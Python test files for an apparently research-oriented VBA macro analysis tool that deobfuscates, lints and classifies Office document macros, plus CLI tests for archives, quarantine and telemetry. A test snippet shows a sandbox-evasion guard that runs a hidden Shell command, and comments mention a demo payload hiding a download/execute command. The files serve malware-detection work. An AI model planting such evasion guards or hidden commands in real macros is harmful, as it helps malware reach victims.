        source = "Sub A()\n    Next nothing\nEnd Sub\n"
        assert "broken_code" not in scan_macro(source).techniques


class TestFlowEvasion:
    def test_flow_changer_output_detected(self):
        out = FlowChanger().apply(PAYLOAD, make_context(1))
        report = scan_macro(out)
        # Some guards (Now() > date) are time-based and not in the rule set;
        # the environment-check guards must be caught.
        if "If RecentFiles" in out or "Environ" in out or "Windows.Count" in out:
            assert "flow_evasion" in report.techniques

    def test_guard_patterns(self):
        source = (
            "Sub A()\n"
            "    If RecentFiles.Count > 2 Then\n"
            "        Shell cmd, 0\n"
            "    End If\n"
            "End Sub\n"
        )
        assert "flow_evasion" in scan_macro(source).techniques

    def test_environ_outside_condition_not_flagged(self):
        source = 'Sub A()\n    user = Environ("USERNAME")\nEnd Sub\n'
        assert "flow_evasion" not in scan_macro(source).techniques


class TestCombined:
    def test_all_three_together(self):
        context = make_context(9)
        source = StringHider(hide_probability=1.0, min_length=4).apply(
            PAYLOAD, context
        )
        source = FlowChanger().apply(source, context)
        source = BrokenCodeInserter().apply(source, context)
        report = scan_macro(source)
        assert "hidden_strings" in report.techniques
        assert len(report.findings) >= 2
