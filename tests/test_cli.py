"""Tests for the command-line interface."""

import pytest

from repro.cli import build_parser, main


@pytest.fixture(scope="module")
def demo_document(tmp_path_factory):
    path = tmp_path_factory.mktemp("cli") / "sample.docm"
    assert main(["demo", str(path), "--seed", "7"]) == 0
    return path


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_unknown_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    def test_scan_classifier_choices(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["scan", "x", "--classifier", "XGB"])


class TestDemo:
    def test_demo_writes_extractable_document(self, demo_document):
        from repro.ole.extractor import extract_macros_from_file

        result = extract_macros_from_file(demo_document)
        assert result.has_macros

    def test_demo_is_deterministic(self, tmp_path):
        a = tmp_path / "a.docm"
        b = tmp_path / "b.docm"
        main(["demo", str(a), "--seed", "3"])
        main(["demo", str(b), "--seed", "3"])
        assert a.read_bytes() == b.read_bytes()


class TestExtract:
    def test_extract_prints_sources(self, demo_document, capsys):
        assert main(["extract", str(demo_document)]) == 0
        out = capsys.readouterr().out
        assert "modules" in out
        assert "Sub " in out or "Function " in out

    def test_extract_missing_file(self, capsys):
        assert main(["extract", "/nonexistent/file.docm"]) == 1
        assert "file.docm" in capsys.readouterr().err

    def test_extract_non_document(self, tmp_path, capsys):
        path = tmp_path / "notes.txt"
        path.write_text("hello")
        assert main(["extract", str(path)]) == 1


class TestDeobfuscate:
    def test_deobfuscate_recovers_keywords(self, demo_document, capsys):
        assert main(["deobfuscate", str(demo_document)]) == 0
        out = capsys.readouterr().out
        assert "deobfuscation:" in out
        # The demo payload hides a download/execute command.
        assert "powershell" in out.lower() or "http" in out.lower()


class TestScan:
    def test_scan_flags_demo_document(self, demo_document, capsys):
        # Exit status 2 = at least one obfuscated macro found.
        status = main(
            ["scan", str(demo_document), "--classifier", "RF", "--train-seed", "1"]
        )
        out = capsys.readouterr().out
        assert status == 2
        assert "OBFUSCATED" in out
        assert "AV aggregate" in out
