"""Tests for the command-line interface."""

import io
import json
import pathlib

import pytest

from repro.cli import build_parser, main


@pytest.fixture(scope="module")
def demo_document(tmp_path_factory):
    path = tmp_path_factory.mktemp("cli") / "sample.docm"
    assert main(["demo", str(path), "--seed", "7"]) == 0
    return path


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_unknown_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    def test_scan_classifier_choices(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["scan", "x", "--classifier", "XGB"])


class TestDemo:
    def test_demo_writes_extractable_document(self, demo_document):
        from repro.ole.extractor import extract_macros_from_file

        result = extract_macros_from_file(demo_document)
        assert result.has_macros

    def test_demo_is_deterministic(self, tmp_path):
        a = tmp_path / "a.docm"
        b = tmp_path / "b.docm"
        main(["demo", str(a), "--seed", "3"])
        main(["demo", str(b), "--seed", "3"])
        assert a.read_bytes() == b.read_bytes()


class TestExtract:
    def test_extract_prints_sources(self, demo_document, capsys):
        assert main(["extract", str(demo_document)]) == 0
        out = capsys.readouterr().out
        assert "modules" in out
        assert "Sub " in out or "Function " in out

    def test_extract_missing_file(self, capsys):
        assert main(["extract", "/nonexistent/file.docm"]) == 1
        assert "file.docm" in capsys.readouterr().err

    def test_extract_non_document(self, tmp_path, capsys):
        path = tmp_path / "notes.txt"
        path.write_text("hello")
        assert main(["extract", str(path)]) == 1


class TestDeobfuscate:
    def test_deobfuscate_recovers_keywords(self, demo_document, capsys):
        assert main(["deobfuscate", str(demo_document)]) == 0
        out = capsys.readouterr().out
        assert "deobfuscation:" in out
        # The demo payload hides a download/execute command.
        assert "powershell" in out.lower() or "http" in out.lower()


class TestScan:
    def test_scan_flags_demo_document(self, demo_document, capsys):
        # Exit status 2 = at least one obfuscated macro found.
        status = main(
            ["scan", str(demo_document), "--classifier", "RF", "--train-seed", "1"]
        )
        out = capsys.readouterr().out
        assert status == 2
        assert "OBFUSCATED" in out
        assert "AV aggregate" in out


@pytest.fixture(scope="module")
def scan_directory(tmp_path_factory, demo_document):
    """A directory mixing a real macro document with a corrupt one."""
    directory = tmp_path_factory.mktemp("scan_dir")
    (directory / "good.docm").write_bytes(demo_document.read_bytes())
    (directory / "corrupt.docm").write_bytes(b"PK\x07\x08 not a zip")
    return directory


def _scan_json(capsys, target, jobs):
    status = main(
        [
            "scan", str(target),
            "--classifier", "RF", "--train-seed", "1",
            "--format", "json", "--jobs", str(jobs),
        ]
    )
    out = capsys.readouterr().out
    records = [json.loads(line) for line in out.splitlines() if line.strip()]
    return status, records


class TestScanJson:
    def test_one_record_per_file_and_partial_success(self, scan_directory, capsys):
        status, records = _scan_json(capsys, scan_directory, jobs=1)
        # Partial success (one corrupt file) still exits 0 in JSON mode.
        assert status == 0
        assert len(records) == 2
        by_name = {record["path"].rsplit("/", 1)[-1]: record for record in records}

        corrupt = by_name["corrupt.docm"]
        assert corrupt["ok"] is False
        assert "zip" in corrupt["error"]
        assert corrupt["macros"] == []

        good = by_name["good.docm"]
        assert good["ok"] is True
        assert good["error"] is None
        assert good["macros"][0]["verdict"] == "obfuscated"
        assert 0.0 <= good["macros"][0]["score"] <= 1.0
        assert good["av"]["total_vendors"] > 0

    def test_jobs_parity(self, scan_directory, capsys):
        _, serial = _scan_json(capsys, scan_directory, jobs=1)
        _, parallel = _scan_json(capsys, scan_directory, jobs=2)
        assert serial == parallel

    def test_json_mode_keeps_stdout_clean(self, scan_directory, capsys):
        main(
            [
                "scan", str(scan_directory / "good.docm"),
                "--classifier", "RF", "--train-seed", "1", "--format", "json",
            ]
        )
        captured = capsys.readouterr()
        for line in captured.out.splitlines():
            json.loads(line)  # every stdout line is valid JSON
        assert "training" in captured.err


@pytest.fixture(scope="module")
def lint_directory(tmp_path_factory, demo_document):
    """Obfuscated document + clean .bas source + an unrelated text file."""
    directory = tmp_path_factory.mktemp("lint_dir")
    (directory / "evil.docm").write_bytes(demo_document.read_bytes())
    (directory / "clean.bas").write_text(
        "Sub FormatHeader()\n"
        "    Dim rowCount As Long\n"
        "    rowCount = 3\n"
        "    Rows(rowCount).Font.Bold = True\n"
        "End Sub\n"
    )
    (directory / "readme.txt").write_text("not VBA at all\n")
    return directory


class TestLint:
    def test_lint_reports_findings_with_locations(self, lint_directory, capsys):
        status = main(["lint", str(lint_directory / "evil.docm")])
        out = capsys.readouterr().out
        assert status == 2  # findings present
        assert "findings" in out
        # Per-finding lines carry line:col, rule id, class and severity.
        assert "[o1-gibberish-identifier/O1 medium]" in out

    def test_lint_clean_source_exits_zero(self, lint_directory, capsys):
        status = main(["lint", str(lint_directory / "clean.bas")])
        out = capsys.readouterr().out
        assert status == 0
        assert "0 findings" in out

    def test_lint_directory_skips_non_macro_files(self, lint_directory, capsys):
        status = main(["lint", str(lint_directory), "--format", "json"])
        out = capsys.readouterr().out
        records = [json.loads(line) for line in out.splitlines() if line.strip()]
        assert status == 0
        by_name = {r["path"].rsplit("/", 1)[-1]: r for r in records}
        assert by_name["readme.txt"]["macros"] == []
        assert by_name["clean.bas"]["container"] == "text"
        assert by_name["clean.bas"]["macros"][0]["findings"] == []
        evil = by_name["evil.docm"]["macros"][0]["findings"]
        assert evil and {"rule_id", "line", "span", "message"} <= set(evil[0])

    def test_lint_rule_subset_and_unknown_rule(self, lint_directory, capsys):
        status = main(
            [
                "lint", str(lint_directory / "evil.docm"),
                "--rules", "o3-chr-chain,o3-decode-loop", "--format", "json",
            ]
        )
        out = capsys.readouterr().out
        record = json.loads(out.splitlines()[0])
        kinds = {
            f["rule_id"]
            for macro in record["macros"]
            for f in macro["findings"]
        }
        assert status == 0
        assert kinds <= {"o3-chr-chain", "o3-decode-loop"}
        assert main(["lint", "x.bas", "--rules", "bogus-rule"]) == 1

    def test_lint_jobs_parity(self, lint_directory, capsys):
        def run(jobs):
            main(["lint", str(lint_directory), "--format", "json",
                  "--jobs", str(jobs)])
            out = capsys.readouterr().out
            return [json.loads(line) for line in out.splitlines() if line.strip()]

        assert run(1) == run(2)


class TestScanExplain:
    def test_explain_adds_per_class_counts(self, demo_document, capsys):
        status = main(
            [
                "scan", str(demo_document), "--explain",
                "--classifier", "RF", "--train-seed", "1",
            ]
        )
        out = capsys.readouterr().out
        assert status == 2
        assert "[lint]" in out
        assert "O1" in out  # per-class summary next to the verdict

    def test_explain_findings_reach_json(self, demo_document, capsys):
        main(
            [
                "scan", str(demo_document), "--explain",
                "--classifier", "RF", "--train-seed", "1", "--format", "json",
            ]
        )
        out = capsys.readouterr().out
        record = json.loads(out.splitlines()[0])
        assert record["macros"][0]["findings"]

    def test_without_explain_no_findings_collected(self, demo_document, capsys):
        main(
            [
                "scan", str(demo_document),
                "--classifier", "RF", "--train-seed", "1", "--format", "json",
            ]
        )
        out = capsys.readouterr().out
        record = json.loads(out.splitlines()[0])
        assert record["macros"][0]["findings"] == []


class TestExtractJson:
    def test_extract_json_records(self, demo_document, tmp_path, capsys):
        bogus = tmp_path / "bogus.docm"
        bogus.write_bytes(b"\x00\x01\x02")
        status = main(
            ["extract", str(demo_document), str(bogus), "--format", "json"]
        )
        out = capsys.readouterr().out
        records = [json.loads(line) for line in out.splitlines() if line.strip()]
        assert status == 0
        assert [record["ok"] for record in records] == [True, False]
        assert records[0]["macros"][0]["chars"] > 0


class TestTelemetryCli:
    def test_lint_stats_prints_summary_to_stderr(self, lint_directory, capsys):
        main(["lint", str(lint_directory), "--stats"])
        captured = capsys.readouterr()
        assert "TELEMETRY" in captured.err
        for token in ("p50", "p95", "docs/s", "hit rate", "extract"):
            assert token in captured.err
        assert "TELEMETRY" not in captured.out

    def test_scan_stats_includes_cache_and_throughput(
        self, scan_directory, capsys
    ):
        main(
            [
                "scan", str(scan_directory), "--stats",
                "--classifier", "RF", "--train-seed", "1", "--jobs", "2",
            ]
        )
        err = capsys.readouterr().err
        assert "docs/s" in err
        assert "hit rate" in err
        assert "classify" in err

    def test_trace_out_writes_schema_valid_events(
        self, lint_directory, tmp_path, capsys
    ):
        from tests.obs import schema_validator

        trace = tmp_path / "events.jsonl"
        main(["lint", str(lint_directory), "--trace-out", str(trace)])
        capsys.readouterr()
        count = schema_validator.validate_lines(trace.read_text())
        assert count > 0

    def test_trace_out_jobs_parity_of_span_counts(
        self, lint_directory, tmp_path, capsys
    ):
        from repro.obs import read_events

        def span_counts(jobs):
            trace = tmp_path / f"events_{jobs}.jsonl"
            main(
                ["lint", str(lint_directory), "--trace-out", str(trace),
                 "--jobs", str(jobs)]
            )
            capsys.readouterr()
            counts = {}
            for event in read_events(trace):
                counts[event["name"]] = counts.get(event["name"], 0) + 1
            return counts

        assert span_counts(1) == span_counts(2)

    def test_telemetry_off_by_default(self, lint_directory, capsys):
        main(["lint", str(lint_directory)])
        captured = capsys.readouterr()
        assert "TELEMETRY" not in captured.err


class TestStatsCommand:
    @pytest.fixture()
    def trace_file(self, lint_directory, tmp_path, capsys):
        trace = tmp_path / "events.jsonl"
        main(["lint", str(lint_directory), "--trace-out", str(trace)])
        capsys.readouterr()
        return trace

    def test_stats_renders_table(self, trace_file, capsys):
        assert main(["stats", str(trace_file)]) == 0
        out = capsys.readouterr().out
        assert "TRACE" in out
        assert "p95" in out
        assert "max" in out
        assert "extract" in out

    def test_stats_json_aggregates(self, trace_file, capsys):
        assert main(["stats", str(trace_file), "--format", "json"]) == 0
        aggregated = json.loads(capsys.readouterr().out)
        assert "extract" in aggregated
        stats = aggregated["extract"]
        assert stats["count"] >= 1
        assert 0 <= stats["p50"] <= stats["p95"] <= stats["max"]

    def test_stats_missing_file_fails(self, capsys):
        assert main(["stats", "/nonexistent/events.jsonl"]) == 1
        assert "error" in capsys.readouterr().err

    def test_stats_skips_corrupt_lines(self, trace_file, capsys):
        with open(trace_file, "a", encoding="utf-8") as handle:
            handle.write('{"type": "span"}\n')   # schema-invalid
            handle.write('{"truncated mid-wri')  # torn final line
        assert main(["stats", str(trace_file)]) == 0
        captured = capsys.readouterr()
        assert "skipped 2 corrupt line" in captured.err
        assert "lines skipped: 2" in captured.out

    def test_stats_json_reports_skipped_lines(self, trace_file, capsys):
        with open(trace_file, "a", encoding="utf-8") as handle:
            handle.write("not json at all\n")
        assert main(["stats", str(trace_file), "--format", "json"]) == 0
        aggregated = json.loads(capsys.readouterr().out)
        assert aggregated["lines_skipped"] == 1

    def test_stats_all_corrupt_trace_still_succeeds(self, tmp_path, capsys):
        bad = tmp_path / "bad.jsonl"
        bad.write_text('{"type": "span"}\n!!!\n')
        assert main(["stats", str(bad)]) == 0
        captured = capsys.readouterr()
        assert "no events" in captured.out
        assert "skipped 2 corrupt line" in captured.err


class TestRecursiveWalk:
    @pytest.fixture()
    def nested_tree(self, tmp_path):
        root = tmp_path / "tree"
        deep = root / "a" / "b"
        deep.mkdir(parents=True)
        (root / "top.bas").write_text("Sub Top()\nEnd Sub\n")
        (root / "a" / "mid.bas").write_text("Sub Mid()\nEnd Sub\n")
        (deep / "deep.bas").write_text("Sub Deep()\nEnd Sub\n")
        return root

    def _linted_paths(self, capsys, argv):
        main(argv + ["--format", "json"])
        out = capsys.readouterr().out
        return {
            json.loads(line)["path"].rsplit("/", 1)[-1]
            for line in out.splitlines()
            if line.strip()
        }

    def test_default_walk_stays_flat(self, nested_tree, capsys):
        paths = self._linted_paths(capsys, ["lint", str(nested_tree)])
        assert paths == {"top.bas"}

    def test_recursive_walk_finds_nested_files(self, nested_tree, capsys):
        paths = self._linted_paths(
            capsys, ["lint", str(nested_tree), "--recursive"]
        )
        assert paths == {"top.bas", "mid.bas", "deep.bas"}

    def test_max_depth_guard_skips_deep_subtrees(self, nested_tree, capsys):
        paths = self._linted_paths(
            capsys,
            ["lint", str(nested_tree), "--recursive", "--max-depth", "1"],
        )
        assert paths == {"top.bas", "mid.bas"}

    def test_skipped_inputs_reported_in_stats(self, nested_tree, capsys):
        main(
            ["lint", str(nested_tree), "--recursive", "--max-depth", "1",
             "--stats"]
        )
        err = capsys.readouterr().err
        assert "1 inputs skipped" in err

    def test_recursive_extract_matches_lint_walk(self, nested_tree, capsys):
        status = main(
            ["extract", str(nested_tree), "--recursive", "--format", "json"]
        )
        out = capsys.readouterr().out
        assert status == 0
        assert len(out.splitlines()) == 3


def _json_records(capsys):
    out = capsys.readouterr().out
    return [json.loads(line) for line in out.splitlines() if line.strip()]


class TestArchiveExpansion:
    @pytest.fixture()
    def bundle(self, demo_document, tmp_path):
        import zipfile

        path = tmp_path / "bundle.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.write(demo_document, "inner/sample.docm")
            archive.writestr("notes.txt", "not a document")
        return path

    def test_extract_expands_archive_members(self, bundle, capsys):
        assert main(["extract", str(bundle), "--format", "json"]) == 0
        records = _json_records(capsys)
        by_path = {record["path"]: record for record in records}
        docm = by_path[f"{bundle}!inner/sample.docm"]
        assert docm["ok"] and docm["macros"]
        assert f"{bundle}!notes.txt" in by_path  # error record, still present

    def test_docm_itself_is_never_expanded(self, demo_document, capsys):
        assert main(["extract", str(demo_document), "--format", "json"]) == 0
        [record] = _json_records(capsys)
        assert record["path"] == str(demo_document)
        assert record["ok"]

    def test_zip_bomb_becomes_one_degraded_record(self, tmp_path, capsys):
        import zipfile

        bomb = tmp_path / "bomb.zip"
        with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("boom.bin", b"\x00" * (8 << 20))  # ~5000x ratio
        assert main(["extract", str(bomb), "--format", "json"]) == 0
        [record] = _json_records(capsys)
        assert record["path"] == str(bomb)
        assert record["degraded"] and not record["ok"]
        assert "archive refused" in record["error"]

    def test_no_archives_flag_disables_expansion(self, bundle, capsys):
        assert main(
            ["extract", str(bundle), "--no-archives", "--format", "json"]
        ) == 0
        [record] = _json_records(capsys)
        assert record["path"] == str(bundle)
        assert not record["ok"]  # fed to the extractor as-is, which refuses it

    def test_lint_walks_into_archives_too(self, bundle, capsys):
        assert main(["lint", str(bundle), "--format", "json"]) == 0
        paths = {record["path"] for record in _json_records(capsys)}
        assert f"{bundle}!inner/sample.docm" in paths

    @pytest.mark.parametrize("mode,suffix", [("w", "tar"), ("w:gz", "tar.gz")])
    def test_extract_expands_tar_feeds(
        self, demo_document, tmp_path, capsys, mode, suffix
    ):
        import tarfile

        path = tmp_path / f"feed.{suffix}"
        with tarfile.open(path, mode) as archive:
            archive.add(demo_document, arcname="inner/sample.docm")
        assert main(["extract", str(path), "--format", "json"]) == 0
        [record] = _json_records(capsys)
        assert record["path"] == f"{path}!inner/sample.docm"
        assert record["ok"] and record["macros"]

    def test_extract_expands_zip_in_zip_one_level(
        self, demo_document, tmp_path, capsys
    ):
        import zipfile

        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.write(demo_document, "deep/sample.docm")
        path = tmp_path / "outer.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("inner.zip", inner.getvalue())
        assert main(["extract", str(path), "--format", "json"]) == 0
        [record] = _json_records(capsys)
        assert record["path"] == f"{path}!inner.zip!deep/sample.docm"
        assert record["ok"] and record["macros"]


class TestChaosAndQuarantine:
    def test_chaos_raise_degrades_without_killing_the_run(
        self, demo_document, capsys
    ):
        status = main(
            ["extract", str(demo_document), "--format", "json",
             "--chaos", "raise:sample"]
        )
        assert status == 0
        [record] = _json_records(capsys)
        assert record["degraded"] and not record["ok"]
        assert "ChaosError" in record["error"]

    def test_bad_chaos_spec_is_a_usage_error(self, demo_document, capsys):
        with pytest.raises(SystemExit) as excinfo:
            main(["extract", str(demo_document), "--chaos", "explode:sample"])
        assert excinfo.value.code == 2
        assert "unknown fault kind" in capsys.readouterr().err

    def test_quarantine_out_writes_report(self, demo_document, tmp_path, capsys):
        report_path = tmp_path / "quarantine.json"
        status = main(
            ["extract", str(demo_document), "--format", "json",
             "--chaos", "raise:sample", "--quarantine-out", str(report_path)]
        )
        assert status == 0
        report = json.loads(report_path.read_text())
        assert report["total_records"] == 1
        assert report["degraded_count"] == 1
        assert report["quarantined_count"] == 0
        assert "quarantine report" in capsys.readouterr().err

    def test_timeout_flags_are_accepted(self, demo_document, capsys):
        status = main(
            ["extract", str(demo_document), "--format", "json",
             "--timeout", "30", "--stage-timeout", "10"]
        )
        assert status == 0
        [record] = _json_records(capsys)
        assert record["ok"]


class TestBudgetPresets:
    def _budget_for(self, argv):
        from repro.cli import _make_budget

        return _make_budget(build_parser().parse_args(argv))

    def test_default_preset_is_the_library_default(self):
        from repro.resilience import DEFAULT_BUDGET

        assert self._budget_for(["extract", "x"]) == DEFAULT_BUDGET

    def test_strict_preset_arms_the_watchdog(self):
        from repro.resilience import STRICT_BUDGET

        budget = self._budget_for(["extract", "x", "--budget", "strict"])
        assert budget == STRICT_BUDGET
        assert budget.stage_timeout_s is not None
        assert budget.wall_clock_s < 30.0

    def test_off_preset_disables_every_limit(self):
        import dataclasses

        from repro.resilience import UNLIMITED_BUDGET

        budget = self._budget_for(["extract", "x", "--budget", "off"])
        assert budget == UNLIMITED_BUDGET
        assert all(
            getattr(budget, field.name) is None
            for field in dataclasses.fields(budget)
        )

    def test_fine_grained_flags_override_the_preset(self):
        budget = self._budget_for(
            ["extract", "x", "--budget", "strict", "--timeout", "3"]
        )
        assert budget.wall_clock_s == 3.0
        assert budget.stage_timeout_s == 5.0  # rest of strict kept

    def test_unknown_preset_is_a_usage_error(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["extract", "x", "--budget", "lenient"])

    def test_strict_preset_runs_a_batch(self, demo_document, capsys):
        status = main(
            ["extract", str(demo_document), "--format", "json",
             "--budget", "strict"]
        )
        assert status == 0
        [record] = _json_records(capsys)
        assert record["ok"]


class TestStreamingCli:
    def test_window_flag_bounds_the_batch(self, scan_directory, capsys):
        status = main(
            ["extract", str(scan_directory), "--format", "json",
             "--jobs", "2", "--window", "2"]
        )
        assert status == 0
        assert _json_records(capsys)


class TestReplay:
    @pytest.fixture()
    def quarantine_report(self, tmp_path, monkeypatch, capsys):
        """Poison one of two documents, quarantine it, return the report."""
        from repro.resilience import recovery as recovery_module

        monkeypatch.setattr(recovery_module, "_sleep", lambda delay: None)
        good = tmp_path / "good.docm"
        bad = tmp_path / "bad.docm"
        assert main(["demo", str(good), "--seed", "5"]) == 0
        assert main(["demo", str(bad), "--seed", "6"]) == 0
        report = tmp_path / "quarantine.json"
        status = main(
            ["extract", str(good), str(bad), "--format", "json",
             "--jobs", "2", "--chaos", "exit:bad.docm",
             "--quarantine-out", str(report)]
        )
        capsys.readouterr()
        assert status == 0
        payload = json.loads(report.read_text())
        assert payload["quarantined_count"] == 1
        assert payload["quarantined"][0]["path"] == str(bad)
        return report

    def test_replay_reanalyzes_quarantined_documents(
        self, quarantine_report, capsys
    ):
        status = main(
            ["extract", "--replay", str(quarantine_report), "--format", "json"]
        )
        assert status == 0
        [record] = _json_records(capsys)
        assert record["path"].endswith("bad.docm")
        assert record["ok"]  # no chaos this time: the document is fine

    def test_replay_refuses_changed_files(
        self, quarantine_report, tmp_path, capsys
    ):
        with open(tmp_path / "bad.docm", "ab") as handle:
            handle.write(b"tampered")
        status = main(
            ["extract", "--replay", str(quarantine_report), "--format", "json"]
        )
        assert status == 0
        [record] = _json_records(capsys)
        assert not record["ok"] and record["degraded"]
        assert "digest mismatch" in record["error"]

    def test_replay_of_non_report_fails(self, tmp_path, capsys):
        bogus = tmp_path / "not_a_report.json"
        bogus.write_text(json.dumps({"foo": "bar"}))
        assert main(["extract", "--replay", str(bogus)]) == 1
        assert "not a quarantine report" in capsys.readouterr().err

    def test_extract_without_inputs_or_replay_fails(self, capsys):
        assert main(["extract"]) == 1
        assert "no inputs" in capsys.readouterr().err


# ----------------------------------------------------------------------
# Observability: baseline profiles, drift, SLOs, the /metrics endpoint


_CANNED_TRACE = (
    pathlib.Path(__file__).parent / "obs" / "data" / "canned_trace.jsonl"
)


def _synthetic_profile(path, scores=(), quarantined=0, documents=0):
    """Write a profile artifact from a hand-built registry."""
    from repro.obs import SCORE_BUCKETS, MetricsRegistry
    from repro.obs.drift import capture_profile, write_profile

    registry = MetricsRegistry()
    if scores:
        histogram = registry.histogram("score.probability", SCORE_BUCKETS)
        for value in scores:
            histogram.observe(value)
    for _ in range(documents):
        registry.histogram("span.document").observe(0.01)
    if quarantined:
        registry.counter("resilience.quarantined").inc(quarantined)
    write_profile(path, capture_profile(registry))
    return path


class TestDriftCommand:
    def test_self_comparison_exits_zero(self, tmp_path, capsys):
        profile = _synthetic_profile(
            tmp_path / "p.json", scores=[0.1 * (i % 9) for i in range(40)]
        )
        assert main(["drift", str(profile), str(profile)]) == 0
        out = capsys.readouterr().out
        assert "DRIFT" in out
        assert "0 drifted" in out

    def test_shifted_scores_exit_two(self, tmp_path, capsys):
        baseline = _synthetic_profile(
            tmp_path / "base.json", scores=[0.05] * 40
        )
        live = _synthetic_profile(tmp_path / "live.json", scores=[0.9] * 40)
        assert main(["drift", str(baseline), str(live)]) == 2
        out = capsys.readouterr().out
        assert "score.probability" in out
        assert "drift" in out

    def test_json_format(self, tmp_path, capsys):
        baseline = _synthetic_profile(
            tmp_path / "base.json", scores=[0.05] * 40
        )
        live = _synthetic_profile(tmp_path / "live.json", scores=[0.9] * 40)
        assert main(
            ["drift", str(baseline), str(live), "--format", "json"]
        ) == 2
        payload = json.loads(capsys.readouterr().out)
        assert payload["ok"] is False
        assert payload["drifted"] == ["score.probability"]

    def test_min_count_floor_gates_small_samples(self, tmp_path, capsys):
        baseline = _synthetic_profile(
            tmp_path / "base.json", scores=[0.05] * 5
        )
        live = _synthetic_profile(tmp_path / "live.json", scores=[0.9] * 5)
        assert main(["drift", str(baseline), str(live)]) == 0
        assert "insufficient data" in capsys.readouterr().out
        assert main(
            ["drift", str(baseline), str(live), "--min-count", "5"]
        ) == 2
        capsys.readouterr()

    def test_unreadable_profile_is_usage_error(self, tmp_path, capsys):
        good = _synthetic_profile(tmp_path / "good.json", scores=[0.5] * 25)
        bad = tmp_path / "bad.json"
        bad.write_text("{not json", encoding="utf-8")
        assert main(["drift", str(bad), str(good)]) == 1
        assert "error" in capsys.readouterr().err
        assert main(["drift", str(good), str(tmp_path / "missing.json")]) == 1
        capsys.readouterr()


class TestSloCommand:
    def test_clean_snapshot_passes(self, tmp_path, capsys):
        profile = _synthetic_profile(
            tmp_path / "p.json", quarantined=0, documents=100
        )
        assert main(["slo", "check", str(profile)]) == 0
        out = capsys.readouterr().out
        assert "SLO" in out
        assert "0 violated" in out

    def test_burned_budget_exits_two(self, tmp_path, capsys):
        profile = _synthetic_profile(
            tmp_path / "p.json", quarantined=10, documents=50
        )
        assert main(["slo", "check", str(profile)]) == 2
        out = capsys.readouterr().out
        assert "quarantine-rate" in out
        assert "VIOLATED" in out

    def test_json_format_reports_burn_rate(self, tmp_path, capsys):
        profile = _synthetic_profile(
            tmp_path / "p.json", quarantined=10, documents=50
        )
        main(["slo", "check", str(profile), "--format", "json"])
        payload = json.loads(capsys.readouterr().out)
        assert payload["violated"] == ["quarantine-rate"]
        burned = next(
            r for r in payload["results"] if r["name"] == "quarantine-rate"
        )
        assert burned["burn_rate"] == pytest.approx(10.0)

    def test_custom_config_and_bad_config(self, tmp_path, capsys):
        profile = _synthetic_profile(tmp_path / "p.json", documents=10)
        config = tmp_path / "slo.json"
        config.write_text(
            json.dumps(
                {
                    "schema": "repro.slo/1",
                    "slos": [
                        {
                            "name": "docs-p95",
                            "kind": "latency_p95",
                            "histogram": "span.document",
                            "target_s": 10.0,
                        }
                    ],
                }
            )
        )
        assert main(
            ["slo", "check", str(profile), "--slo", str(config)]
        ) == 0
        capsys.readouterr()
        config.write_text("broken")
        assert main(
            ["slo", "check", str(profile), "--slo", str(config)]
        ) == 1
        assert "error" in capsys.readouterr().err

    def test_show_prints_the_default_config(self, capsys):
        assert main(["slo", "show"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["schema"] == "repro.slo/1"
        names = {slo["name"] for slo in payload["slos"]}
        assert "quarantine-rate" in names


class TestBatchObservabilityFlags:
    def test_baseline_out_writes_a_profile(
        self, lint_directory, tmp_path, capsys
    ):
        from repro.obs.drift import read_profile

        out_path = tmp_path / "baseline.json"
        main(
            ["lint", str(lint_directory), "--format", "json",
             "--baseline-out", str(out_path)]
        )
        captured = capsys.readouterr()
        assert "wrote metrics profile" in captured.err
        profile = read_profile(out_path)
        assert profile["schema"] == "repro.baseline/1"
        assert profile["source"] == "repro lint"
        assert profile["documents"] >= 1
        assert "span.document" in profile["metrics"]["histograms"]
        assert "events" not in profile["metrics"]

    def test_baseline_flag_prints_drift_summary(
        self, lint_directory, tmp_path, capsys
    ):
        baseline = tmp_path / "baseline.json"
        main(
            ["lint", str(lint_directory), "--format", "json",
             "--baseline-out", str(baseline)]
        )
        capsys.readouterr()
        main(
            ["lint", str(lint_directory), "--format", "json",
             "--baseline", str(baseline)]
        )
        err = capsys.readouterr().err
        assert "DRIFT" in err

    def test_bad_baseline_is_a_usage_error(
        self, lint_directory, tmp_path, capsys
    ):
        bad = tmp_path / "bad.json"
        bad.write_text("{not json", encoding="utf-8")
        assert main(
            ["lint", str(lint_directory), "--baseline", str(bad)]
        ) == 1
        assert "error" in capsys.readouterr().err

    def test_metrics_port_announces_and_serves(
        self, lint_directory, tmp_path, capsys
    ):
        import re
        import urllib.request

        # Lingering keeps the endpoint alive only while the command runs;
        # scrape-after-run coverage lives in tests/obs/test_export.py.
        # Here: port 0 binds a free port and announces it on stderr.
        status = main(
            ["lint", str(lint_directory), "--format", "json",
             "--metrics-port", "0"]
        )
        err = capsys.readouterr().err
        assert status == 0
        match = re.search(r"metrics: http://127\.0\.0\.1:(\d+)/metrics", err)
        assert match is not None
        # The server is stopped after the batch: the scrape must fail.
        with pytest.raises(OSError):
            urllib.request.urlopen(
                f"http://127.0.0.1:{match.group(1)}/metrics", timeout=1
            )


class TestStatsHint:
    def test_text_report_includes_hint_and_drift_line(self, capsys):
        assert main(["stats", str(_CANNED_TRACE)]) == 0
        out = capsys.readouterr().out
        # Slowest stage span is extract at 0.18s: doubled and rounded up
        # the 1-2-5 ladder that is 0.5 (the document span is excluded).
        assert "hint: --stage-timeout 0.5" in out
        assert "drift: 1 evaluations (1 drifted, 0 warning)" in out
        # The serve.* event family aggregates its own line and stays out
        # of the span count.
        assert (
            "serving: 6 events (admitted 1, breaker 1, connection 2, "
            "deadline_expired 1, shed 1)" in out
        )
